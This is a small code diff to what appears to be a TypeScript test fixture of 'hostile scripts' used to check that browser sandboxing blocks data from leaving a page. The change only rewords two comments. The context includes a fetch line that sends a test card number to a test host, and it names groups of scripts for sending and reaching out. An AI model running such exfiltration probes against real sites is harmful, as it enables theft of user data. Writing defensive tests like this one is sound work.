@@ -31,7 +31,7 @@ const wait = 'await new Promise((done) => setTimeout(done, 120));';
 const add = (tag: string, set: string): string =>
   `const e = document.createElement('${tag}'); ${set}; document.body.append(e); ${wait} e.remove();`;
 
-/** Ways to send something out. */
+/** Ways to send data out. */
 const sending: readonly HostileScript[] = [
   sends('fetch', `await fetch(t.http + '/fetch?card=4111111111111111');`),
   sends(
@@ -262,5 +262,5 @@ const reaching: readonly HostileScript[] = [
   ),
 ];
 
-/** Everything that is tried, in an order in which one does not stop the next. */
+/** Every attempt, in an order in which none stops the next. */
 export const hostileScripts: readonly HostileScript[] = [...sending, ...codeScripts, ...reaching];
